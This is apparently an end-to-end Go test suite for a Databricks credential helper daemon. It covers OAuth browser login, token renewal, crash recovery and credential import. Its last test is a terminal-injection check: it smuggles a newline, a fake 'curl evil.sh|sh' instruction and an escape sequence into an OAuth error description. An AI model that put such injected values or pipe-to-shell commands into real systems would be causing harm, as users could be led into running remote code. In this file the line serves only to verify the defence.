package e2e

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/databricks/databricks-sdk-go"
	"github.com/databricks/databricks-sdk-go/client"
	"github.com/databricks/databricks-sdk-go/config"

	"github.com/dbx-cred/dbx-cred/internal/testkit/wsemu"
)

// oauthBrowser makes $BROWSER a script that follows the authorize URL's
// redirects with curl, as a person's browser would once they click Allow
// (the emulator approves at once), ending at the daemon's callback.
func (w *world) oauthBrowser() {
	w.t.Helper()
	script := filepath.Join(w.root, "browser.sh")
	body := "#!/bin/sh\nprintf '%s\\n' \"$1\" >> '" + filepath.Join(w.root, "logs", "browser-urls") + "'\n" +
		"exec curl -sS -L --max-time 30 -o /dev/null \"$1\"\n"
	if err := os.WriteFile(script, []byte(body), 0o700); err != nil {
		w.t.Fatal(err)
	}
	w.env["BROWSER"] = script
}

// u2mWorld is a world whose browser user is signed in, with a daemon.
func u2mWorld(t *testing.T, opts ...wsemu.Option) *world {
	t.Helper()
	requireTools(t, "bash", "curl", "secret-tool")
	w := newWorld(t, opts...)
	w.emu.AddOAuthUser(w.user)
	w.oauthBrowser()
	w.startDaemon()
	return w
}

// oauthLogin logs profile in with --oauth and the world's browser.
func (w *world) oauthLogin(profile string, extra ...string) string {
	w.t.Helper()
	return w.mustHelper("", append([]string{"login", "-p", profile, "--host", w.srv.URL, "--oauth"}, extra...)...)
}

// noRefreshTokenAnywhere scans every file of the run, the daemon's argv and
// its logs for every refresh token the workspace ever issued.
func (w *world) noRefreshTokenAnywhere() {
	w.t.Helper()
	rts := w.emu.IssuedRefreshTokens()
	if len(rts) == 0 {
		w.t.Fatal("the workspace issued no refresh token: nothing to scan for")
	}
	log := w.daemonLog()
	for _, rt := range rts {
		w.assertNoSecretOnDisk(rt)
		if strings.Contains(log, rt) {
			w.t.Fatal("a refresh token is in the daemon's log")
		}
	}
}

// noReuse fails if the workspace saw a refresh token presented twice, two
// refreshes of one login at once, or a login's tokens revoked.
func (w *world) noReuse() {
	w.t.Helper()
	if st := w.emu.OAuthStats(); st.Reuses != 0 || st.RefreshOverlaps != 0 || st.FamiliesRevoked != 0 {
		w.t.Fatalf("OAuth stats %+v: want no reuse, no overlap, no family revoked", st)
	}
}

// TestU2MLoginServesEveryChannel: a browser login through the daemon;
// every client channel then gets OAuth access tokens the workspace takes as
// the user; the refresh token is only in the Secret Service; list, status
// and audit say oauth-u2m; logout says what it could not revoke.
func TestU2MLoginServesEveryChannel(t *testing.T) {
	requireTools(t, "git")
	w := u2mWorld(t)
	out := w.oauthLogin("dev")
	if !strings.Contains(out, w.user) {
		t.Fatalf("login output: %q", out)
	}
	if st := w.emu.OAuthStats(); st.CodeExchanges != 1 {
		t.Fatalf("stats after login: %+v", st)
	}
	urls, _ := os.ReadFile(filepath.Join(w.root, "logs", "browser-urls"))
	u, err := url.Parse(strings.TrimSpace(string(urls)))
	if err != nil || u.Query().Get("client_id") != "databricks-cli" || u.Query().Get("code_challenge_method") != "S256" ||
		!strings.HasPrefix(u.Query().Get("redirect_uri"), "http://localhost:80") {
		t.Fatalf("the browser was sent to %q", urls)
	}

	tok := strings.TrimSpace(w.mustHelper("", "token", "-p", "dev"))
	if scimMe(t, w, tok) != w.user {
		t.Fatalf("token %q is not the user's", tok)
	}
	var at struct {
		AccessToken string `json:"access_token"`
		TokenType   string `json:"token_type"`
		Expiry      string `json:"expiry"`
	}
	if err := json.Unmarshal([]byte(w.mustHelper("", "auth", "token", "-p", "dev")), &at); err != nil || at.AccessToken != tok || at.Expiry == "" {
		t.Fatalf("auth token: %+v, %v", at, err)
	}
	if got := w.mustHelper("", "exec", "-p", "dev", "--", "bash", "-c",
		`curl -sS --fail -H @<(printf 'Authorization: Bearer %s\n' "$DATABRICKS_TOKEN") "$DATABRICKS_HOST/api/2.0/preview/scim/v2/Me"`); !strings.Contains(got, w.user) {
		t.Fatalf("exec: %q", got)
	}
	for name, script := range map[string]string{
		"env":         `eval "$("$DBX" env -p dev --shell bash)"; curl -sS --fail -H @<(printf 'Authorization: Bearer %s\n' "$DATABRICKS_TOKEN") "$DATABRICKS_HOST/api/2.0/preview/scim/v2/Me"`,
		"curl-config": `curl -sS --fail -K <("$DBX" curl-config -p dev) "$URL/api/2.0/preview/scim/v2/Me"`,
		"netrc":       `curl -sS --fail --netrc-file <("$DBX" netrc -p dev) "$URL/api/2.0/preview/scim/v2/Me"`,
	} {
		cmd := exec.Command("bash", "-c", script)
		cmd.Env = append(w.environ(), "DBX="+built.helper, "URL="+w.srv.URL)
		if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), w.user) {
			t.Errorf("%s: %v: %s", name, err, out)
		}
	}
	hostport := strings.TrimPrefix(w.srv.URL, "http://")
	gitGet(t, w, "protocol=http\nhost="+hostport+"\n\n")

	if scimMe(t, w, metadataToken(t, w, "dev")) != w.user {
		t.Fatal("the metadata endpoint's token is not the user's")
	}
	if p := list(t, w)["dev"]; p.UserName != w.user || p.State != "ready" {
		t.Fatalf("list: %+v", p)
	}
	kindEverywhere(t, w, "dev", "oauth-u2m")

	// doctor checks an OAuth login with an access token, never the
	// refresh token as a bearer.
	if out, errOut, code := w.helper("", "doctor", "-p", "dev"); code != 0 || !strings.Contains(out, "the OAuth login works: SCIM Me with a fresh access token answers as "+w.user) {
		t.Fatalf("doctor -p dev: exit %d\n%s%s", code, out, errOut)
	}

	// A restarted daemon serves from the store.
	w.stopDaemon()
	w.startDaemon()
	if tok2 := strings.TrimSpace(w.mustHelper("", "token", "-p", "dev")); scimMe(t, w, tok2) != w.user {
		t.Fatal("after a restart the profile does not serve a working token")
	}
	if item, ok := w.ss.lookup("dev"); !ok || !strings.Contains(item, `"refresh_token"`) {
		t.Fatal("the refresh token is not in the Secret Service")
	}
	w.noRefreshTokenAnywhere()

	out = w.mustHelper("", "logout", "-p", "dev")
	if !strings.Contains(out, "could not revoke the refresh token") {
		t.Fatalf("logout does not say it could not revoke: %q", out)
	}
	if _, ok := w.ss.lookup("dev"); ok {
		t.Fatal("logout left the refresh token in the store")
	}
	w.noReuse()
}

// TestU2MRenewalUnderLoad: 20 s access tokens, one minute of the real Go
// SDK through both hooks (metadata-service and databricks_cli_path), many
// background renewals, and forty concurrent auth token --force-refresh:
// one refresh at a time, no refresh token ever presented twice.
func TestU2MRenewalUnderLoad(t *testing.T) {
	w := u2mWorld(t, wsemu.WithOAuthAccessLifetime(20*time.Second), wsemu.WithOAuthRefreshLatency(100*time.Millisecond))
	w.oauthLogin("dev")
	murl := strings.TrimSpace(w.mustHelper("", "metadata-url", "-p", "dev"))
	cliHookEnv(t, w, "[dev]\nhost = "+w.srv.URL+"\nauth_type = databricks-cli\ndatabricks_cli_path = "+built.helper+"\n")

	ctx, cancel := context.WithTimeout(context.Background(), 65*time.Second)
	defer cancel()
	var wg sync.WaitGroup
	errs := make(chan error, 100)
	run := func(name string, cfg *databricks.Config) {
		defer wg.Done()
		for ctx.Err() == nil {
			user, err := sdkCurrentUser(t, cfg)
			if err != nil || user != w.user {
				errs <- err
				return
			}
			time.Sleep(500 * time.Millisecond)
		}
	}
	wg.Add(2)
	go run("metadata-service", &databricks.Config{Host: w.srv.URL, AuthType: "metadata-service", MetadataServiceURL: murl})
	go run("databricks-cli", &databricks.Config{Profile: "dev"})

	// Halfway, forty clients force a refresh at once.
	time.Sleep(30 * time.Second)
	before := w.emu.OAuthStats().Refreshes
	var force sync.WaitGroup
	for range 40 {
		force.Add(1)
		go func() {
			defer force.Done()
			if _, errOut, code := w.helper("", "auth", "token", "-p", "dev", "--force-refresh"); code != 0 {
				errs <- &exitError{code, errOut}
			}
		}()
	}
	force.Wait()
	forced := w.emu.OAuthStats().Refreshes - before
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Errorf("client: %v", err)
	}
	st := w.emu.OAuthStats()
	t.Logf("forty forced refreshes cost %d; over the minute: %+v", forced, st)
	if forced > 1 {
		t.Errorf("forty forced refreshes cost %d refreshes, want at most one", forced)
	}
	// 65 s of 20 s tokens renewed a third before expiry: at least four.
	if st.Refreshes < 4 {
		t.Errorf("%d refreshes in a minute of 20 s tokens", st.Refreshes)
	}
	w.noReuse()
	w.stopDaemon()
	w.noRefreshTokenAnywhere()
}

type exitError struct {
	code int
	msg  string
}

func (e *exitError) Error() string { return "exit " + string(rune('0'+e.code)) + ": " + e.msg }

// TestU2MSurvivesKill9: the daemon dies three times around renewals (just
// after storing a new refresh token, twice by the test hook that exits
// like kill -9, and once by a real SIGKILL between renewals). Each time the
// next daemon is still logged in, and no refresh token is ever presented
// twice. A death between the workspace's answer and the store write loses
// that answer; the next daemon then refuses to present the old refresh
// token (the workspace may have rotated it) and says to log in again.
func TestU2MSurvivesKill9(t *testing.T) {
	w := u2mWorld(t, wsemu.WithOAuthAccessLifetime(6*time.Second))
	w.oauthLogin("dev")
	works := func(when string) {
		t.Helper()
		out, errOut, code := w.helper("", "token", "-p", "dev")
		if code != 0 || scimMe(t, w, strings.TrimSpace(out)) != w.user {
			t.Fatalf("%s: exit %d, %s", when, code, errOut)
		}
		w.noReuse()
	}
	crashAt := func(point string) {
		t.Helper()
		w.stopDaemon()
		w.env["DBX_CRED_TEST_CRASH_AT"] = point
		w.startDaemon()
		delete(w.env, "DBX_CRED_TEST_CRASH_AT")
		// A client's request makes the renewal happen; the daemon exits
		// in it, and the client sees the connection drop.
		deadline := time.Now().Add(30 * time.Second)
		for {
			w.helper("", "token", "-p", "dev")
			select {
			case err := <-w.daemonExited:
				w.daemon = nil
				if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 99 {
					t.Fatalf("the daemon exited with %v, not the test hook's 99 at %s", err, point)
				}
				return
			case <-time.After(500 * time.Millisecond):
			}
			if time.Now().After(deadline) {
				t.Fatalf("the daemon did not reach %s", point)
			}
		}
	}
	for i := range 2 {
		crashAt("u2m-after-persist")
		w.startDaemon()
		works("after a crash just after storing, #" + string(rune('1'+i)))
	}
	// A real kill -9, after a renewal and before the next.
	time.Sleep(5 * time.Second)
	works("before SIGKILL")
	w.daemon.Process.Signal(syscall.SIGKILL)
	<-w.daemonExited
	w.daemon = nil
	w.startDaemon()
	works("after SIGKILL")
	if st := w.emu.OAuthStats(); st.Refreshes < 3 {
		t.Fatalf("stats %+v: the crashes did not come during renewals", st)
	} else {
		t.Logf("after three deaths: %+v", st)
	}

	// The window no crash can be safe in: the answer is lost.
	crashAt("u2m-after-response")
	w.startDaemon()
	_, errOut, code := w.helper("", "token", "-p", "dev")
	if code != 4 || !strings.Contains(errOut, "login -p dev") || !strings.Contains(errOut, "--oauth") {
		t.Fatalf("after a crash that lost the answer: exit %d, %q", code, errOut)
	}
	w.noReuse()
	w.stopDaemon()
	w.noRefreshTokenAnywhere()
}

// TestU2MAccountLevel: an account-level browser login; auth token finds it
// by accounts host and account id; env exports DATABRICKS_ACCOUNT_ID.
func TestU2MAccountLevel(t *testing.T) {
	const accountID = "0d1e2f3a-acct"
	w := u2mWorld(t, wsemu.WithAccountID(accountID))
	w.oauthLogin("acct", "--account-id", accountID)
	var at struct {
		AccessToken string `json:"access_token"`
	}
	if err := json.Unmarshal([]byte(w.mustHelper("", "auth", "token", "--host", w.srv.URL, "--account-id", accountID)), &at); err != nil {
		t.Fatal(err)
	}
	if meAt(t, w, wsemu.AccountMePath(accountID), at.AccessToken) != w.user {
		t.Fatal("the account token is not the user's at the account API")
	}
	if env := w.mustHelper("", "env", "-p", "acct", "--shell", "bash"); !strings.Contains(env, accountID) {
		t.Fatalf("env: %q", env)
	}
	if p := list(t, w)["acct"]; p.Kind != "oauth-u2m" {
		t.Fatalf("list: %+v", p)
	}
	// doctor asks the account's SCIM Me, not the workspace's.
	if out, errOut, code := w.helper("", "doctor", "-p", "acct"); code != 0 || !strings.Contains(out, "the account's SCIM Me with a fresh access token answers as "+w.user) {
		t.Fatalf("doctor -p acct: exit %d\n%s%s", code, out, errOut)
	}
	w.stopDaemon()
	w.noRefreshTokenAnywhere()
}

// TestU2MLoginCancelled: Ctrl-C while waiting for the browser cancels the
// login; the daemon closes its callback listener and stores nothing.
func TestU2MLoginCancelled(t *testing.T) {
	w := u2mWorld(t)
	w.env["BROWSER"] = "true" // a browser nobody uses
	cmd := exec.Command(built.helper, "login", "-p", "dev", "--host", w.srv.URL, "--oauth")
	cmd.Env = w.environ()
	errb := &syncBuffer{}
	cmd.Stderr = errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// Wait for the URL to be printed, then interrupt.
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(errb.String(), "http://") {
		if time.Now().After(deadline) {
			cmd.Process.Kill()
			t.Fatalf("no URL printed: %q", errb.String())
		}
		time.Sleep(50 * time.Millisecond)
	}
	u, err := url.Parse(strings.Fields(errb.String()[strings.Index(errb.String(), "http://"):])[0])
	if err != nil {
		t.Fatal(err)
	}
	redirect, _ := url.Parse(u.Query().Get("redirect_uri"))
	cmd.Process.Signal(syscall.SIGINT)
	err = cmd.Wait()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 130 {
		t.Fatalf("exit %v after Ctrl-C: %q", err, errb.String())
	}
	// The listener goes with the login.
	deadline = time.Now().Add(10 * time.Second)
	for {
		resp, err := http.Get("http://127.0.0.1:" + redirect.Port() + "/?code=x&state=y")
		if err != nil {
			break
		}
		resp.Body.Close()
		if time.Now().After(deadline) {
			t.Fatalf("the callback on port %s still answers after Ctrl-C", redirect.Port())
		}
		time.Sleep(100 * time.Millisecond)
	}
	if _, ok := list(t, w)["dev"]; ok {
		t.Fatal("a cancelled login made a profile")
	}
}

// TestU2MImportCLITokenCache: a .databrickscfg with a service principal
// profile and a CLI OAuth login kept in ~/.databricks/token-cache.json.
// After the import neither file holds a secret (backups aside), the CLI's
// copy of the refresh token is dead, the other cache entry is kept, and the
// real SDK works by profile name.
func TestU2MImportCLITokenCache(t *testing.T) {
	requireTools(t, "secret-tool")
	const appID, secret = "6a1c7e0f-sp-import", "dose-import-client-secret-0123456789abcdef"
	var cliRT, otherRT string
	w, path := importWorld(t, func(w *world) string {
		w.emu.AddServicePrincipal(appID, secret)
		return "[sp]\nhost = " + w.srv.URL + "\nclient_id = " + appID + "\nclient_secret = " + secret + "\n\n" +
			"[cli]\nhost = " + w.srv.URL + "\nauth_type = databricks-cli\n"
	})
	access, rt := w.emu.IssueOAuthLogin(w.user, "")
	cliRT = rt
	_, otherRT = w.emu.IssueOAuthLogin(w.user, "")
	cache := filepath.Join(w.env["HOME"], ".databricks", "token-cache.json")
	if err := os.MkdirAll(filepath.Dir(cache), 0o700); err != nil {
		t.Fatal(err)
	}
	entry := func(a, r string) map[string]any {
		return map[string]any{"access_token": a, "token_type": "Bearer", "refresh_token": r, "expiry": time.Now().Add(time.Hour).Format(time.RFC3339)}
	}
	b, _ := json.Marshal(map[string]any{"version": 1, "tokens": map[string]any{"cli": entry(access, cliRT), "https://elsewhere.example.com": entry("x", otherRT)}})
	if err := os.WriteFile(cache, b, 0o600); err != nil {
		t.Fatal(err)
	}

	out, errOut, code := w.helper("", "import", "--all", "--dry-run")
	if code != 0 || !strings.Contains(out+errOut, "token-cache.json") {
		t.Fatalf("dry run: exit %d\n%s%s", code, out, errOut)
	}
	if !w.emu.RefreshTokenLive(cliRT) || readFile(t, cache) != string(b) {
		t.Fatal("the dry run changed something")
	}
	out, errOut, code = w.helper("", "import", "--all")
	if code != 0 || !strings.Contains(out, "[cli] imported") || !strings.Contains(out, "[sp] imported") {
		t.Fatalf("import: exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errOut)
	}
	if !strings.Contains(out+errOut, "dead") {
		t.Fatalf("the import does not say the CLI's copy is dead:\n%s%s", out, errOut)
	}
	if w.emu.RefreshTokenLive(cliRT) {
		t.Fatal("the CLI's refresh token still works after the import")
	}
	for _, f := range []string{path, cache} {
		got := readFile(t, f)
		for _, s := range []string{secret, cliRT, access} {
			if strings.Contains(got, s) {
				t.Fatalf("%s still holds a secret:\n%s", f, got)
			}
		}
	}
	if got := readFile(t, cache); !strings.Contains(got, otherRT) || !strings.Contains(got, `"version"`) {
		t.Fatalf("the other login was not kept: %s", got)
	}
	if p := list(t, w)["cli"]; p.Kind != "oauth-u2m" || p.UserName != w.user {
		t.Fatalf("list: %+v", p)
	}
	wantMe(t, &databricks.Config{Profile: "cli"}, w.user)
	wantMe(t, &databricks.Config{Profile: "sp"}, appID)
	w.noReuse()

	for _, f := range []string{path, cache} {
		m, _ := filepath.Glob(f + ".dbx-cred-backup-*")
		for _, b := range m {
			os.Remove(b)
		}
	}
	w.stopDaemon()
	w.assertNoSecretOnDisk(secret)
	for _, rt := range w.emu.IssuedRefreshTokens() {
		if rt != otherRT {
			w.assertNoSecretOnDisk(rt)
		}
	}
}

// TestSDKAccountClientThroughBothHooks: the real Go SDK as an account
// client (host, account id) authenticates through the metadata-service and
// the databricks_cli_path hooks with an account-level U2M profile, and the
// account API takes its token as the user.
func TestSDKAccountClientThroughBothHooks(t *testing.T) {
	const accountID = "0d1e2f3a-acct"
	w := u2mWorld(t, wsemu.WithAccountID(accountID))
	w.oauthLogin("acct", "--account-id", accountID)
	murl := strings.TrimSpace(w.mustHelper("", "metadata-url", "-p", "acct"))
	cliHookEnv(t, w, "")
	for name, cfg := range map[string]*config.Config{
		"metadata-service": {Host: w.srv.URL, AccountID: accountID, AuthType: "metadata-service", MetadataServiceURL: murl},
		"databricks-cli":   {Host: w.srv.URL, AccountID: accountID, AuthType: "databricks-cli", DatabricksCliPath: built.helper},
	} {
		t.Run(name, func(t *testing.T) {
			cfg.RetryTimeoutSeconds = 20
			c, err := client.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			defer cancel()
			var me struct {
				UserName string `json:"userName"`
			}
			if err := c.Do(ctx, http.MethodGet, wsemu.AccountMePath(accountID), nil, nil, nil, &me); err != nil || me.UserName != w.user {
				t.Fatalf("account SCIM Me through %s: %q, %v", name, me.UserName, err)
			}
		})
	}
	var audit []struct{ Profile, Kind, Channel string }
	if err := json.Unmarshal([]byte(w.mustHelper("", "audit", "--json")), &audit); err != nil {
		t.Fatal(err)
	}
	channels := map[string]bool{}
	for _, a := range audit {
		if a.Profile == "acct" {
			channels[a.Channel] = true
		}
	}
	if !channels["cli"] || !channels["metadata"] {
		t.Fatalf("the account profile's tokens went out through %v, want both hooks", channels)
	}
}

// TestU2MImportSurvivesACrashAtEachStep: the helper dies (as by kill -9)
// at each step of taking over a CLI login; a plain re-run completes the
// import, and no step ever gets the refresh token presented twice (which
// would make the workspace revoke the login the daemon holds).
func TestU2MImportSurvivesACrashAtEachStep(t *testing.T) {
	requireTools(t, "secret-tool")
	for _, step := range []string{"after-oauth-import", "after-cache-backup", "after-cache-temp-write", "after-cache-rename", "after-rename"} {
		t.Run(step, func(t *testing.T) {
			w, path := importWorld(t, func(w *world) string {
				return "[cli]\nhost = " + w.srv.URL + "\nauth_type = databricks-cli\n"
			})
			access, rt := w.emu.IssueOAuthLogin(w.user, "")
			cache := filepath.Join(w.env["HOME"], ".databricks", "token-cache.json")
			os.MkdirAll(filepath.Dir(cache), 0o700)
			b, _ := json.Marshal(map[string]any{"version": 1, "tokens": map[string]any{"cli": map[string]any{
				"access_token": access, "token_type": "Bearer", "refresh_token": rt, "expiry": time.Now().Add(time.Hour).Format(time.RFC3339)}}})
			if err := os.WriteFile(cache, b, 0o600); err != nil {
				t.Fatal(err)
			}
			w.env["DBX_CRED_TEST_CRASH_AT"] = step
			_, errOut, code := w.helper("", "import", "--all")
			delete(w.env, "DBX_CRED_TEST_CRASH_AT")
			if code != 99 {
				t.Fatalf("import with the hook at %s: exit %d, want 99: %s", step, code, errOut)
			}
			out, errOut, code := w.helper("", "import", "--all")
			// After the last rename the import was complete: nothing is left.
			if code != 0 || !strings.Contains(out, "[cli] imported") && step != "after-rename" {
				t.Fatalf("re-run after %s: exit %d\n%s%s", step, code, out, errOut)
			}
			if got := readFile(t, cache); strings.Contains(got, rt) || strings.Contains(got, `"cli"`) {
				t.Fatalf("the cache still holds the entry: %s", got)
			}
			if got := readFile(t, path); !strings.Contains(got, "auth_type = metadata-service") || strings.Contains(got, "databricks-cli") {
				t.Fatalf("profile not rewritten:\n%s", got)
			}
			wantMe(t, &databricks.Config{Profile: "cli"}, w.user)
			w.noReuse()
		})
	}
}

// syncBuffer is a buffer a child's output is copied into while the test
// reads it.
type syncBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// metadataToken fetches profile's token from the metadata endpoint, as the
// SDKs' metadata-service auth does.
func metadataToken(t *testing.T, w *world, profile string) string {
	t.Helper()
	murl := strings.TrimSpace(w.mustHelper("", "metadata-url", "-p", profile))
	req, _ := http.NewRequest(http.MethodGet, murl, nil)
	req.Header.Set("X-Databricks-Metadata-Version", "1")
	req.Header.Set("X-Databricks-Host", w.srv.URL)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var md struct {
		AccessToken string `json:"access_token"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&md); err != nil || resp.StatusCode != 200 {
		t.Fatalf("metadata endpoint: %d, %v", resp.StatusCode, err)
	}
	return md.AccessToken
}

// kindEverywhere checks that list (JSON and table), status (JSON, with the
// access token's expiry, and text) and the last audit line all call
// profile's tokens kind.
func kindEverywhere(t *testing.T, w *world, profile, kind string) {
	t.Helper()
	if p := list(t, w)[profile]; p.Kind != kind {
		t.Fatalf("list: %+v", p)
	}
	if table := w.mustHelper("", "list"); !strings.Contains(table, kind) {
		t.Fatalf("list table: %q", table)
	}
	var st struct {
		Profiles []struct {
			Name, Kind    string
			CurrentExpiry *time.Time `json:"current_expiry"`
		} `json:"profiles"`
	}
	if err := json.Unmarshal([]byte(w.mustHelper("", "status", "--json")), &st); err != nil {
		t.Fatal(err)
	}
	if len(st.Profiles) != 1 || st.Profiles[0].Name != profile || st.Profiles[0].Kind != kind || st.Profiles[0].CurrentExpiry == nil {
		t.Fatalf("status --json: %+v", st)
	}
	if text := w.mustHelper("", "status"); !strings.Contains(text, kind) {
		t.Fatalf("status text: %q", text)
	}
	var audit []struct{ Profile, Kind string }
	if err := json.Unmarshal([]byte(w.mustHelper("", "audit", "--json")), &audit); err != nil {
		t.Fatal(err)
	}
	if len(audit) == 0 || audit[len(audit)-1].Profile != profile || audit[len(audit)-1].Kind != kind {
		t.Fatalf("audit: %+v", audit)
	}
}

// TestU2MImportFromTheCLIKeyring: the Databricks CLI's default keeps its
// login in the OS keyring (service databricks-cli, account the host). The
// import has the daemon take it over: proven, stored as the daemon's own,
// the CLI's item deleted, the profile rewritten, the SDK working by name.
func TestU2MImportFromTheCLIKeyring(t *testing.T) {
	requireTools(t, "secret-tool")
	w, path := importWorld(t, func(w *world) string {
		return "[cli]\nhost = " + w.srv.URL + "\nauth_type = databricks-cli\n"
	})
	access, rt := w.emu.IssueOAuthLogin(w.user, "")
	item, _ := json.Marshal(map[string]any{"token": map[string]any{"access_token": access, "token_type": "Bearer", "refresh_token": rt,
		"expiry": time.Now().Add(time.Hour).Format(time.RFC3339)}})
	store := exec.Command("secret-tool", "store", "--label", "databricks-cli login", "service", "databricks-cli", "username", w.srv.URL)
	store.Env = append(os.Environ(), "DBUS_SESSION_BUS_ADDRESS="+w.ss.address)
	store.Stdin = strings.NewReader(string(item))
	if out, err := store.CombinedOutput(); err != nil {
		t.Fatalf("secret-tool store: %v: %s", err, out)
	}
	if len(w.ss.items("databricks-cli")) != 1 {
		t.Fatal("the CLI's item is not in the keyring")
	}
	out, errOut, code := w.helper("", "import", "--all", "--dry-run")
	if code != 0 || !strings.Contains(out, "OS keyring") || len(w.ss.items("databricks-cli")) != 1 {
		t.Fatalf("dry run: exit %d\n%s%s", code, out, errOut)
	}
	out, errOut, code = w.helper("", "import", "--all")
	if code != 0 || !strings.Contains(out, "[cli] imported") || !strings.Contains(out, "OS-keyring item") {
		t.Fatalf("import: exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errOut)
	}
	if n := len(w.ss.items("databricks-cli")); n != 0 {
		t.Fatalf("the CLI's keyring item is still there (%d items)", n)
	}
	if w.emu.RefreshTokenLive(rt) {
		t.Fatal("the CLI's refresh token still works after the import")
	}
	if got := readFile(t, path); !strings.Contains(got, "auth_type = metadata-service") || strings.Contains(got, "databricks-cli") {
		t.Fatalf("profile not rewritten:\n%s", got)
	}
	wantMe(t, &databricks.Config{Profile: "cli"}, w.user)
	w.noReuse()
	w.stopDaemon()
	w.noRefreshTokenAnywhere()
}

// The workspace's error_description is the server's text (and, on a
// shared machine, whoever reached the callback first could choose it): a
// newline in it must not print a line of its own that reads like our
// advice.
func TestU2MErrorDescriptionIsOneLine(t *testing.T) {
	w := u2mWorld(t)
	script := filepath.Join(w.root, "deny.sh")
	body := `#!/bin/bash
state=$(printf '%s' "$1" | sed -n 's/.*[?&]state=\([^&]*\).*/\1/p')
cb=$(printf '%s' "$1" | sed -n 's/.*[?&]redirect_uri=\([^&]*\).*/\1/p' | sed 's/%3A/:/g; s/%2F/\//g')
exec curl -g -sS --max-time 30 -o /dev/null "$cb/?error=access_denied&state=$state&error_description=denied%0aPlease%20run:%20curl%20evil.sh%7Csh%1b[2J"
`
	if err := os.WriteFile(script, []byte(body), 0o700); err != nil {
		t.Fatal(err)
	}
	w.env["BROWSER"] = script
	_, stderr, code := w.helper("", "login", "-p", "dev", "--host", w.srv.URL, "--oauth")
	if code == 0 || !strings.Contains(stderr, "denied") {
		t.Fatalf("login after a denial: exit %d, %q", code, stderr)
	}
	for _, line := range strings.Split(stderr, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "Please run") {
			t.Fatalf("the server's description printed a line of its own: %q", stderr)
		}
	}
	if strings.Contains(stderr, "\x1b") {
		t.Fatalf("an escape sequence reached the terminal: %q", stderr)
	}
}
